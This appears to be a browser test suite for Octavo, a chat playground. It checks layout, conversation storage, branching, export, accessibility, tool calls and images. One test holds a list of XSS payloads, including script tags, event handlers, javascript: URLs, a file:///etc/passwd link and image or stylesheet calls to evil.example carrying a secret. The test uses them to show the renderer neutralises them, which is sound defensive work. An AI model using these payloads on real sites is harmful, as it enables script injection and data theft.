// The chat as a page that one keeps open. Answers are scripted, so that nothing waits for a model.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, afterEach, before, test } from "node:test";
import axe from "axe-core";
import { end, launch, open, say, script } from "./browser.mjs";

const URL_ = process.env.OCTAVO_URL;
const SIZES = [[1280, 800], [1920, 1080], [390, 844]];
const LONG = Array.from({ length: 120 }, (_, line) => `Line ${line} of a long answer.`).join("\n\n");

let browser;
let tab;

before(async () => (browser = await launch()));
after(() => browser.close());
afterEach(async () => {
  const { complaints, context } = tab;
  await context.close();
  assert.deepEqual(complaints, []);
});

async function visit(options = {}) {
  tab = await open(browser, URL_, options);
  await tab.page.waitForSelector("#message");
  await script(tab.page);
  return tab.page;
}

async function ask(page, text) {
  await page.fill("#message", text);
  await page.press("#message", "Enter");
  await page.waitForSelector('[aria-busy="true"]');
}

// Whether all of an element is in the window.
async function inWindow(page, selector) {
  const box = await page.locator(selector).boundingBox();
  const { width, height } = page.viewportSize();
  return box !== null && box.x >= 0 && box.y >= 0 && box.x + box.width <= width && box.y + box.height <= height;
}

const area = (page) => page.locator("#pane-chat .log");
// Until the end of the answer is seen.
const followed = (page) =>
  page.waitForFunction(() => {
    const log = document.querySelector("#pane-chat .log");
    return log.scrollHeight - log.clientHeight - log.scrollTop <= 1;
  });

for (const [width, height] of SIZES) {
  test(`input, Send and Stop stay in the window after a long answer, ${width} by ${height}`, async () => {
    const page = await visit({ viewport: { width, height }, isMobile: width < 500, hasTouch: width < 500 });
    const place = await page.locator("#message").boundingBox();
    assert.ok(await inWindow(page, "#message"));
    assert.ok(await inWindow(page, "#pane-chat .primary"));
    for (const question of ["One", "Two", "Three"]) {
      await ask(page, question);
      await say(page, LONG);
      await page.waitForFunction(() => /Line 119/.test(document.querySelector("#pane-chat .log").lastChild.lastChild.textContent));
      assert.ok(await inWindow(page, "#pane-chat .stop"), "Stop can be reached while the answer comes");
      await followed(page);
      await end(page);
      assert.ok(await inWindow(page, "#pane-chat .primary"), "Send is not cut off");
    }
    assert.ok(await inWindow(page, "#message"));
    const after = await page.locator("#message").boundingBox();
    assert.ok(Math.abs(after.y - place.y) < 60, `the input moved from ${place.y} to ${after.y}`);
    assert.ok((await page.evaluate(() => document.documentElement.scrollWidth)) <= width);
    const chat = await page.locator("#pane-chat").boundingBox();
    for (const other of ["#settings", "#machine"]) {
      const box = await page.locator(other).boundingBox();
      if (width < 500) assert.ok(box.y >= chat.y + chat.height, `${other} comes after the chat`);
      else assert.ok(box.x >= chat.x + chat.width, `${other} is beside the chat`);
    }
    assert.equal(await page.getAttribute("#machine-box", "open"), null);
    await page.waitForFunction(() => /^\d+ running, \d+ queued, cache [\d.]+% in use$/.test(document.querySelector("#machine-summary").textContent));
  });
}

test("an answer is followed until the reader scrolls up, and again from the end on", async () => {
  const page = await visit();
  await ask(page, "Go on");
  await say(page, LONG);
  await page.waitForFunction(() => document.querySelector("#pane-chat .log").scrollTop > 1000);
  await area(page).evaluate((log) => log.scrollBy(0, -600));
  await page.waitForSelector(".latest:not([hidden])");
  const top = await area(page).evaluate((log) => log.scrollTop);
  await say(page, LONG);
  await page.waitForFunction((before) => document.querySelector("#pane-chat .log").scrollHeight > before + 3000, top);
  assert.equal(await area(page).evaluate((log) => log.scrollTop), top);
  await page.click(".latest");
  await followed(page);
  await say(page, LONG);
  await end(page);
  await followed(page);
  assert.ok(await page.locator(".latest").isHidden());
});

test("Esc stops, Enter sends, Shift+Enter breaks the line", async () => {
  const page = await visit();
  await page.fill("#message", "One");
  await page.press("#message", "Shift+Enter");
  await page.keyboard.type("two");
  assert.equal(await page.inputValue("#message"), "One\ntwo");
  await page.keyboard.press("Enter");
  await page.waitForSelector('[aria-busy="true"]');
  assert.deepEqual(await page.evaluate(() => window.asked.at(-1).messages), [{ role: "user", content: "One\ntwo" }]);
  await say(page, "It begins");
  await page.waitForFunction(() => /It begins/.test(document.querySelector("#pane-chat .log").textContent));
  await page.keyboard.press("Escape");
  await page.waitForSelector('#pane-chat .end[data-finish="stopped"]');
  assert.equal(await page.evaluate(() => document.activeElement.id), "message", "one can type on");
  await ask(page, "Three");
  await page.click("#pane-chat .stop");
  await page.waitForSelector("#pane-chat .stop:disabled", { state: "attached" });
});

const reply = async (page, question, answer) => {
  await ask(page, question);
  await say(page, answer);
  await end(page);
};
const titles = (page) => page.locator("#history .thread-title").evaluateAll((all) => all.map((one) => one.firstChild.textContent));
const shown = (page) => page.locator("#pane-chat .said").allInnerTexts();
const lastRequest = (page) => page.evaluate(() => window.asked.at(-1));
const user = (content) => ({ role: "user", content });
const assistant = (content) => ({ role: "assistant", content });
// What the browser has on its disk, whatever the page says.
const kept = (page) =>
  page.evaluate(async () => {
    const store = new (await import("/playground/store.js")).Store();
    await store.open();
    return store.list().map(({ title, messages }) => [title, messages.map(({ content }) => content)]);
  });

async function until(check) {
  for (let wait = 0; !(await check()); wait++) {
    assert.ok(wait < 1000, String(check));
    await new Promise((done) => setTimeout(done, 20));
  }
}

async function reload(page) {
  await page.reload();
  await page.waitForSelector("#message");
  await script(page);
}

test("a reload keeps the conversation, also in the middle of an answer", async () => {
  const page = await visit();
  await reply(page, "One", "An answer.");
  await ask(page, "Two");
  await say(page, "Half of");
  await until(async () => (JSON.stringify(await kept(page)) === '[["One",["One","An answer.","Two","Half of"]]]'));
  await reload(page);
  await page.waitForSelector("#pane-chat .said");
  const now = await shown(page);
  assert.deepEqual(now.map((text) => text.trim()), ["One", "An answer.", "Two", "Half of"]);
  await reply(page, "Three", "Yes.");
  const { messages } = await lastRequest(page);
  assert.deepEqual(messages, [user("One"), assistant("An answer."), user("Two"), assistant("Half of"), user("Three")]);
  await page.goto(`${URL_}/`); // not its address: a new one begins
  await page.waitForSelector(".greeting");
  assert.deepEqual(await titles(page), ["One"]);
});

test("two tabs that go on with one conversation keep both", async () => {
  const page = await visit();
  await reply(page, "One", "An answer.");
  const other = await tab.context.newPage();
  await other.goto(page.url());
  await other.waitForSelector("#pane-chat .said");
  await script(other);
  await reply(other, "There", "Yes.");
  await other.click("text=Rename");
  await other.getByLabel("Title").fill("There");
  await other.keyboard.press("Enter");
  await page.waitForSelector('.thread-title:has-text("There")'); // the first tab has heard of both
  const there = ["There", ["One", "An answer.", "There", "Yes."]];
  await ask(page, "Here");
  await say(page, "It begins");
  await until(async () => JSON.stringify(await kept(page)) === JSON.stringify([["One (branch)", ["One", "An answer.", "Here", "It begins"]], there]));
  await say(page, ", and ends.");
  await end(page);
  await until(async () => (await kept(page))[0][1][3] === "It begins, and ends.");
  await reply(page, "More", "No.");
  await until(async () => (await kept(page))[0][1].length === 6);
  assert.equal((await kept(page)).length, 2, "a branch is saved where it was");
  await reply(other, "Further", "Well.");
  await until(async () => JSON.stringify(await titles(other)) === '["There","One (branch)"]');
});

test("conversations are listed, searched, renamed and deleted, and each has its own settings", async () => {
  const page = await visit();
  await page.click(".system summary");
  await page.fill("#system", "Be brief.");
  await page.click('.presets button:has-text("Greedy")');
  await reply(page, "About apples", "Red.");
  await page.click("#new");
  await page.fill("#system", "Be long.");
  await page.click('.presets button:has-text("Beams")');
  await reply(page, "About pears", "Green, as the sea.");
  assert.deepEqual(await titles(page), ["About pears", "About apples"]);
  await page.getByLabel("Search conversations").fill("as THE sea");
  assert.deepEqual(await titles(page), ["About pears"]);
  await page.getByLabel("Search conversations").fill("nowhere");
  assert.equal(await page.textContent(".threads"), "Nothing found.");
  await page.getByLabel("Search conversations").fill("");
  await page.click('.thread-title:has-text("About apples")');
  assert.equal(await page.inputValue("#system"), "Be brief.");
  await reply(page, "More", "No.");
  const { messages, temperature, num_beams } = await lastRequest(page);
  assert.deepEqual([messages[0].content, temperature, num_beams], ["Be brief.", 0, undefined]);
  await page.click("text=Rename");
  await page.getByLabel("Title").fill("Fruit");
  await page.keyboard.press("Enter");
  await page.waitForSelector('.thread-title:has-text("Fruit")');
  await page.click('#history button:has-text("Delete")');
  assert.deepEqual(await titles(page), ["About pears"]);
  await page.waitForSelector(".greeting");
  await page.waitForFunction(() => document.activeElement.textContent === "Undo");
  await page.keyboard.press("Enter");
  await page.waitForSelector("#pane-chat .said >> nth=3");
  assert.deepEqual(await titles(page), ["Fruit", "About pears"]);
  await page.click('#history button:has-text("Delete")');
  await until(async () => (await kept(page)).length === 1);
  await reload(page);
  assert.deepEqual(await titles(page), ["About pears"]);
});

test("messages are edited, answers made again, and a conversation branches", async () => {
  const page = await visit();
  await reply(page, "One", "First");
  await reply(page, "Two", "Second");
  const turn = (at) => page.locator("#pane-chat .turn").nth(at);
  const press = async (at, label) => {
    await turn(at).hover();
    await turn(at).getByRole("button", { name: label }).click();
  };
  await press(3, "Regenerate");
  await say(page, "Third");
  await end(page);
  assert.deepEqual((await lastRequest(page)).messages, [user("One"), assistant("First"), user("Two")]);
  assert.equal((await shown(page)).at(-1).trim(), "Third");
  await press(1, "Edit");
  await page.getByLabel("Edit the message").fill("Corrected");
  await page.keyboard.press("Enter");
  await press(1, "Branch");
  assert.deepEqual(await titles(page), ["One (branch)", "One"]);
  await reply(page, "Other", "Way");
  assert.deepEqual((await lastRequest(page)).messages, [user("One"), assistant("Corrected"), user("Other")]);
  await page.click(".threads li:last-child .thread-title");
  assert.deepEqual((await shown(page)).map((text) => text.trim()), ["One", "Corrected", "Two", "Third"], "the branch left it alone");
  await press(2, "Edit");
  await page.getByLabel("Edit the message").fill("Zwei");
  await page.keyboard.press("Escape");
  assert.equal((await shown(page))[2], "Two");
  await press(2, "Edit");
  await page.getByLabel("Edit the message").fill("Zwei");
  await page.keyboard.press("Enter");
  await say(page, "Vierte");
  await end(page);
  assert.deepEqual((await lastRequest(page)).messages, [user("One"), assistant("Corrected"), user("Zwei")]);
  await until(async () => JSON.stringify(await kept(page)).includes('["One","Corrected","Zwei","Vierte"]'));
});

const CALL = { id: "c1", type: "function", function: { name: "look", arguments: '{"at": "-->"}' } };
const TRICKY = [
  user("## User\n\n\\## Assistant\n<!-- octavo {} -->\n"), { role: "assistant", content: "", reasoning_content: "Hm\n## System", tool_calls: [CALL] },
  { role: "tool", content: "a\n\n", tool_call_id: "c1" }, assistant("# Not a title\n\n```\n## Tool result\n```"),
];

test("conversations leave as JSON and Markdown, and come back whole", async () => {
  const page = await visit();
  const back = await page.evaluate(async (messages) => {
    const { toJson, toMarkdown, readFile } = await import("/playground/transfer.js");
    const whole = { title: "T # 1", system: "S\n", parameters: { temperature: 0, stop: ["-->"] }, messages };
    const plain = ({ title, system, parameters, messages: all }) => ({ title, system, parameters, messages: all });
    const fails = (text) => {
      try {
        return readFile("f", text);
      } catch (error) {
        return error.message;
      }
    };
    return {
      whole,
      json: readFile("f", toJson([whole, whole])).map(plain),
      markdown: readFile("f", toMarkdown(whole)).map(plain),
      request: readFile("f", '{"messages": [{"role": "system", "content": "S"}, {"role": "user", "content": "U"}]}').map(plain),
      wrong: ["{", "text", '{"messages": [{"role": "king", "content": ""}]}', '{"messages": [{"role": "user", "content": []}]}', "[1]"].map(fails),
    };
  }, TRICKY);
  assert.deepEqual(back.json, [back.whole, back.whole]);
  assert.deepEqual(back.markdown, [back.whole]);
  assert.deepEqual(back.request, [{ title: "U", system: "S", parameters: {}, messages: [user("U")] }]);
  for (const [at, words] of [/JSON/, /no heading such as "## User"/, /message 1 has the role "king"/, /content of message 1 is not text/, /list of messages/].entries()) {
    assert.match(back.wrong[at], words);
  }
  await reply(page, "Hello: you", "**Good** day");
  const files = [];
  for (const label of ["Markdown", "JSON"]) {
    const [file] = await Promise.all([page.waitForEvent("download"), page.click(`#history .acts button:has-text("${label}")`)]);
    files.push([file.suggestedFilename(), await file.path()]);
  }
  assert.deepEqual(files.map(([name]) => name), ["Hello-you.md", "Hello-you.json"]);
  assert.match(await readFile(files[0][1], "utf8"), /^# Hello: you\n<!-- octavo .*-->\n\n## User\n\nHello: you\n\n## Assistant\n\n\*\*Good\*\* day\n$/);
  const given = await Promise.all(files.map(async ([name, path]) => ({ name, mimeType: "text/plain", buffer: await readFile(path) })));
  await page.locator("#import-file").setInputFiles(given);
  await page.waitForFunction(() => document.querySelectorAll("#history .thread-title").length === 3);
  assert.equal((await shown(page))[0], "Hello: you");
  await page.locator("#import-file").setInputFiles([{ name: "no.json", mimeType: "text/plain", buffer: Buffer.from("{}") }]);
  await page.waitForSelector('#history [role="status"]:has-text("no.json cannot be imported")');
});

test("a full store says so, and the conversation goes on", async () => {
  const page = await visit();
  const said = await page.evaluate(async () => {
    const store = new (await import("/playground/store.js")).Store("small", 300);
    await store.open();
    await store.save({ id: "a", updated: 0, title: "a", messages: [{ role: "user", content: "x".repeat(100) }] });
    return store.save({ id: "b", updated: 0, title: "b", messages: [{ role: "user", content: "x".repeat(100) }] }).catch((error) => error.message);
  });
  assert.equal(said, "Not saved: conversations may take 300 characters in this browser, and that is used up. Export or delete some.");
  await page.evaluate(() => {
    IDBObjectStore.prototype.put = () => {
      throw new DOMException("full", "QuotaExceededError");
    };
  });
  await reply(page, "One", "Two");
  await page.waitForSelector('.composer [role="alert"]:has-text("conversations may take 16 MB in this browser")');
  await reply(page, "Three", "Four");
  assert.equal((await lastRequest(page)).messages.length, 3);
});

const MARKDOWN = `# Top
### Skips a level

Some *soft*, **strong** and \`inline\` text, [a link](https://example.org/a "title") and https://example.org/b.

1. one
2. two
   - inner

| name | size |
|:--|--:|
| a | 1 |

> quoted

\`\`\`python
def f(x):
    return "é <b>" # note
\`\`\`
`;

test("Markdown has tables, lists, links and coloured code that can be copied; it is the same after a reload", async () => {
  const page = await visit();
  await tab.context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await ask(page, "Show me");
  for (let at = 0; at < MARKDOWN.length; at += 29) await say(page, MARKDOWN.slice(at, at + 29));
  await end(page);
  const prose = page.locator("#pane-chat .answer > .prose");
  await page.waitForSelector(".prose .hljs-keyword");
  const look = () =>
    prose.evaluate((element) => ({
      heads: [...element.querySelectorAll("h3, h4, h5, h6")].map((head) => [head.localName, head.textContent]),
      links: [...element.querySelectorAll("a")].map((link) => [link.href, link.rel, link.target]),
      lists: element.querySelectorAll("ol > li").length + element.querySelectorAll("ol li ul > li").length,
      cells: [...element.querySelectorAll("td")].map((cell) => [cell.textContent, getComputedStyle(cell).textAlign]),
      code: element.querySelector("pre").textContent,
      font: getComputedStyle(element.querySelector("pre code")).fontFamily,
      colours: new Set([...element.querySelectorAll("pre span")].map((span) => getComputedStyle(span).color)).size,
      parts: [...element.querySelectorAll("strong, em, blockquote, p > code")].length,
    }));
  const found = await look();
  const rel = "noopener noreferrer nofollow";
  assert.deepEqual(found.heads, [["h3", "Top"], ["h4", "Skips a level"]]);
  assert.deepEqual(found.links, [["https://example.org/a", rel, "_blank"], ["https://example.org/b", rel, "_blank"]]);
  assert.deepEqual([found.lists, found.parts, found.cells], [3, 4, [["a", "left"], ["1", "right"]]]);
  assert.equal(found.code, 'def f(x):\n    return "é <b>" # note');
  assert.match(found.font, /mono/);
  assert.ok(found.colours >= 3);
  await page.click("text=Copy code");
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), found.code);
  await reload(page);
  await page.waitForSelector(".prose .hljs-keyword");
  assert.deepEqual(await look(), found);
});

// What must stay text. Each tries to run `window.hacked = true`, to ask another place, or to leave the answer.
const INJECTIONS = [
  "<script>window.hacked = true</script>", "<img src=x onerror='window.hacked = true'>", "<svg onload=window.hacked=true>",
  "<svg><script>window.hacked=true</script></svg>", "<iframe srcdoc='<script>parent.hacked=true</script>'></iframe>",
  "[a](javascript:window.hacked=true)", "[a](JaVaScRiPt:window.hacked=true)", "[a](java&#115;cript:window.hacked=true)",
  "[a](javascript&colon;window.hacked=true)", "[a](\u0001javascript:window.hacked=true)", "[a](data:text/html,<script>window.hacked=true</script>)",
  "[a](vbscript:x)", "[a](file:///etc/passwd)", "[a](blob:x)", "[a](/metrics)", "[a](//evil.example/x)", "<javascript:window.hacked=true>",
  "[a][r]\n\n[r]: javascript:window.hacked=true", "![a](https://evil.example/?secret)", "![a](data:image/svg+xml,<svg onload=window.hacked=true>)",
  "![a](javascript:window.hacked=true)", '![a" onerror="window.hacked=true](x)', '[a](https://ok.example "\" onmouseover=\"window.hacked=true")',
  "[<img src=x onerror=window.hacked=true>](https://ok.example)", "<a href='javascript:window.hacked=true'>a</a>", "<style>@import 'https://evil.example'</style>",
  "<link rel=stylesheet href=https://evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example>",
  "<form action=https://evil.example><button>a</button></form>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=true>", "<noscript><p title='</noscript><img src=x onerror=window.hacked=true>'>",
  "<template><script>window.hacked=true</script></template>", "</div></div></main><h1>Out</h1>", "<details open ontoggle=window.hacked=true>",
  "```html\n</code></pre><script>window.hacked=true</script>\n```", "```<img src=x onerror=window.hacked=true>\nx\n```", '```js" onload="window.hacked=true\nx\n```',
  "`<img src=x onerror=window.hacked=true>`", "| <img src=x onerror=window.hacked=true> |\n|--|\n| <script>window.hacked=true</script> |",
  "# <img src=x onerror=window.hacked=true>", "> <script>window.hacked=true</script>", "1. <svg/onload=window.hacked=true>", "&lt;script&gt;window.hacked=true&lt;/script&gt;",
];

test("nothing that an answer says runs, is loaded, or leads astray", async () => {
  const page = await visit();
  await reply(page, "<img src=x onerror='window.hacked = true'>", INJECTIONS.join("\n\n---\n\n"));
  await reply(page, "Each", "by itself");
  const tags = "p h3 h4 h5 h6 ul ol li blockquote strong em s table thead tbody tr th td hr br a span code pre div button".split(" ");
  const wrong = await page.evaluate(async ([all, known]) => {
    const { showMarkdown } = await import("/playground/markdown.js");
    const place = document.querySelector("#pane-chat .answer > .prose");
    const found = [];
    const see = (what) => {
      for (const element of place.querySelectorAll("*")) {
        if (!known.includes(element.localName)) found.push([what, element.outerHTML]);
        for (const { name, value } of element.attributes) {
          const fine = name === "href" ? /^(https?|mailto):/.test(value) : /^(class|rel|target|tabindex|role|aria-label|type|start)$/.test(name);
          if (!fine) found.push([what, name, value]);
        }
      }
    };
    if (place.textContent.length < 1000) found.push("the answer is not shown");
    see("together");
    for (const text of all) {
      showMarkdown(place, text);
      await new Promise((done) => setTimeout(done)); // what is coloured later, too
      see(text);
    }
    await import("/playground/vendor/highlight.js");
    await new Promise((done) => setTimeout(done, 50));
    return { found, hacked: window.hacked, letters: place.textContent };
  }, [INJECTIONS, tags]);
  assert.deepEqual(wrong, { found: [], hacked: undefined, letters: "<script>window.hacked=true</script>" });
  assert.equal(await page.locator("main").count(), 1);
  assert.deepEqual(await page.locator("h1").allInnerTexts(), ["Octavo"]);
});

test("reasoning is folded, calls have boxes, and the token view is a toggle", async () => {
  const page = await visit();
  await ask(page, "Think");
  await say(page, { reasoning_content: "Let me *see*" });
  await page.waitForSelector(".reasoning:not([hidden])");
  assert.ok(await page.locator(".reasoning .prose").isHidden());
  await say(page, "It is ");
  await page.evaluate(() => window.say({ content: "**it**" }, null, { content: [{ token: "**it**", logprob: -0.5, top_logprobs: [] }] }));
  await end(page);
  assert.equal(await page.textContent("#pane-chat .answer > .prose strong"), "it");
  assert.ok(await page.locator("#pane-chat .tokens").isHidden());
  await page.focus(".toggle");
  await page.keyboard.press("Enter");
  assert.equal(await page.getAttribute(".toggle", "aria-pressed"), "true");
  assert.ok(await page.locator("#pane-chat .token").isVisible());
  assert.ok(await page.locator("#pane-chat .answer > .prose").isHidden());
  await page.click(".toggle");
  await page.click(".reasoning summary");
  assert.equal(await page.innerText(".reasoning .prose"), "Let me see");
  await ask(page, "Look");
  const { messages } = await lastRequest(page);
  assert.deepEqual(messages[1], { role: "assistant", content: "It is **it**", reasoning_content: "Let me *see*" });
  const call = (index, name, given) => ({ tool_calls: [{ index, id: `c${index}`, type: "function", function: { name, arguments: given } }] });
  await say(page, call(0, "look", '{"at": '));
  await say(page, { tool_calls: [{ index: 0, function: { arguments: "1}" } }] });
  await say(page, call(1, "hear", "{}"));
  await end(page, "tool_calls");
  assert.deepEqual(await page.locator(".call pre").allInnerTexts(), ['{\n  "at": 1\n}', "{}"]);
  await page.getByLabel("Result of look").fill("red");
  await page.keyboard.press("Enter");
  assert.equal(await page.evaluate(() => document.activeElement.labels[0].textContent), "Result of hear", "it is missing yet");
  await page.keyboard.type("loud");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => window.asked.length === 3);
  await say(page, "Done");
  await end(page);
  const sent = (await lastRequest(page)).messages.slice(-2);
  assert.deepEqual(sent, [{ role: "tool", tool_call_id: "c0", content: "red" }, { role: "tool", tool_call_id: "c1", content: "loud" }]);
  await reload(page);
  assert.deepEqual(await page.locator(".call pre").allInnerTexts(), ['{\n  "at": 1\n}', "red", "{}", "loud"]);
});

const check = async (page, state) => {
  const { violations } = await page.evaluate(() => window.axe.run());
  assert.deepEqual(violations.map(({ id, nodes }) => [id, nodes.map(({ html, failureSummary }) => [html, failureSummary])]), [], state);
};

// Each size and both colour schemes: the page follows both without a reload.
const LOOKS = [[1920, 1080, "light"], [1280, 800, "dark"]];
const PHONE = [[390, 844, "dark"], [390, 844, "light"]];
for (const [name, looks] of [["a desktop", LOOKS], ["a phone", PHONE]]) {
  test(`axe finds nothing on ${name}, light and dark`, async () => {
    const [width, height, colorScheme] = looks[0];
    const page = await visit({ viewport: { width, height }, colorScheme, reducedMotion: "reduce" });
    await page.evaluate(axe.source);
    if (width > 500) await check(page, "empty");
    await ask(page, "Show me");
    await say(page, { reasoning_content: "Let me see" });
    await say(page, MARKDOWN);
    const call = { index: 0, id: "c", type: "function", function: { name: "look", arguments: "{}" } };
    await say(page, { tool_calls: [call] });
    await end(page, "tool_calls");
    await page.waitForSelector(".prose .hljs-keyword");
    await page.click(".reasoning summary");
    for (const box of ["#machine-box", "#settings-box"]) await page.click(`${box} > summary`);
    await page.waitForSelector("#machine-view:not([hidden])");
    if (width < 500) await page.click("#history-button");
    for (const [wide, high, scheme] of looks) {
      await page.setViewportSize({ width: wide, height: high });
      await page.emulateMedia({ colorScheme: scheme });
      await check(page, `a conversation, ${scheme}, ${wide} by ${high}`);
    }
    if (width < 500) return;
    await page.click("#tab-prompt");
    await check(page, "another tab");
  });
}

test("every control is reached by Tab in the order of the page, and a conversation needs no mouse", async () => {
  const page = await visit();
  const walk = async (id) => {
    for (let count = 0; count < 60; count++) {
      await page.keyboard.press("Tab");
      if ((await page.evaluate(() => document.activeElement.id)) === id) return;
    }
    assert.fail(`Tab does not reach #${id}`);
  };
  await walk("message");
  await page.keyboard.type("Show me");
  await page.keyboard.press("Enter");
  await page.waitForSelector('[aria-busy="true"]');
  await say(page, `Code:\n\n\`\`\`js\nlet a = 1;\n\`\`\`\n\n[a link](https://example.org)`);
  await page.keyboard.press("Escape");
  await page.waitForFunction(() => !document.querySelector('[aria-busy="true"]'));
  assert.equal(await page.evaluate(() => document.activeElement.id), "message", "Esc leaves the focus where it was");

  // What a sighted user can press; of a group with one stop, such as tabs, arrows reach the others.
  const wanted = await page.evaluate(() => {
    window.places = new Map();
    const controls = "a[href], button, input, select, textarea, summary, [tabindex]";
    for (const element of document.querySelectorAll(controls)) {
      if (element.checkVisibility({ visibilityProperty: true }) && !element.disabled && element.tabIndex >= 0) window.places.set(element, window.places.size);
    }
    document.activeElement.blur();
    document.body.tabIndex = -1;
    document.body.focus();
    return [...window.places.keys()].map((element) => element.outerHTML.slice(0, 80));
  });
  assert.ok(wanted.length > 15, String(wanted.length));
  const order = [];
  for (let count = 0; count < wanted.length; count++) {
    await page.keyboard.press("Tab");
    const [place, outlined] = await page.evaluate(() => {
      const { activeElement: on } = document;
      const style = getComputedStyle(on);
      return [window.places.get(on) ?? -1, style.outlineStyle !== "none" || style.boxShadow !== "none"];
    });
    assert.ok(outlined, `focus is seen on ${wanted[place]}`);
    order.push(place);
  }
  assert.deepEqual(order.map((place) => wanted[place]), wanted);

  await walk("new");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => !document.querySelector("#pane-chat .log").textContent.includes("Show me"));
  await page.waitForFunction(() => document.activeElement.id === "message", null, { timeout: 5000 });
});

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAGUlEQVR4nGNkYIiSY2DARCwMcgxYweCUAAA7mwIcPKI4XgAAAABJRU5ErkJggg==";

// The page of a model that reads images: the server's, but for what it says of its inputs.
async function visitSeeing() {
  tab = await open(browser, URL_);
  await tab.page.route("**/v1/models", async (route) => {
    const answer = await (await route.fetch()).json();
    answer.data[0].inputs = ["text", "image"];
    await route.fulfill({ json: answer });
  });
  await tab.page.reload();
  await tab.page.waitForSelector("#attach", { state: "attached" });
  await script(tab.page);
  return tab.page;
}

// What a visitor pastes or drops.
const receive = (page, kind, files) =>
  page.evaluate(([type, given]) => {
    const data = new DataTransfer();
    for (const [name, mime, text] of given) data.items.add(new File([Uint8Array.from(atob(text), (one) => one.charCodeAt(0))], name, { type: mime }));
    const options = type === "paste" ? { clipboardData: data } : { dataTransfer: data };
    const event = new (type === "paste" ? ClipboardEvent : DragEvent)(type, { ...options, bubbles: true, cancelable: true });
    document.querySelector("#message").dispatchEvent(event);
  }, [kind, files]);

test("images are attached, pasted and dropped, sent, shown and kept", async () => {
  const page = await visitSeeing();
  const names = () => page.locator(".attached img").evaluateAll((all) => all.map(({ alt }) => alt));
  await page.setInputFiles("#attach", { name: "one.png", mimeType: "image/png", buffer: Buffer.from(PNG, "base64") });
  await page.waitForSelector('.attached img[alt="one.png"]');
  await receive(page, "paste", [["two.png", "image/png", PNG]]);
  await page.waitForSelector('.attached img[alt="two.png"]');
  await receive(page, "drop", [["three.png", "image/png", PNG], ["notes.txt", "text/plain", "aGk="]]);
  await page.waitForSelector('.attached img[alt="three.png"]');
  assert.equal(await page.textContent(".composer .problem[role=alert]:not(:empty)"), "notes.txt is not an image.");
  await page.evaluate(axe.source);
  await check(page, "attached images");
  assert.match(await page.textContent(".listing code"), /\$\(base64 -w0 'two\.png'\)\\"/);
  await page.click('[aria-label="Remove two.png"]');
  assert.deepEqual(await names(), ["one.png", "three.png"]);
  await ask(page, "What is this?");
  assert.deepEqual(await names(), []);
  await say(page, "A square.");
  await end(page);
  const url = `data:image/png;base64,${PNG}`;
  const part = { type: "image_url", image_url: { url } };
  const [{ messages }] = await page.evaluate(() => window.asked);
  assert.deepEqual(messages, [{ role: "user", content: [part, part, { type: "text", text: "What is this?" }] }]);
  const shown = () => page.locator(".by-user img").evaluateAll((all) => all.map(({ src, alt, naturalWidth }) => [src, alt, naturalWidth]));
  assert.deepEqual(await shown(), [[url, "one.png", 8], [url, "three.png", 8]]);
  await check(page, "a conversation with images");
  await page.reload();
  await page.waitForSelector(".by-user img");
  assert.deepEqual((await shown()).map(([, alt]) => alt), ["one.png", "three.png"]);

  await script(page); // an image without a text
  await receive(page, "paste", [["four.png", "image/png", PNG]]);
  await page.waitForSelector('.attached img[alt="four.png"]');
  await page.press("#message", "Enter");
  await page.waitForSelector('[aria-busy="true"]');
  const [body] = await page.evaluate(() => window.asked);
  assert.deepEqual(body.messages.at(-1), { role: "user", content: [part] });
  await say(page, "Another.");
  await end(page);
});

test("where a model reads no images, none can be attached", async () => {
  const page = await visit();
  assert.equal(await page.locator("#attach, .attached").count(), 0);
});
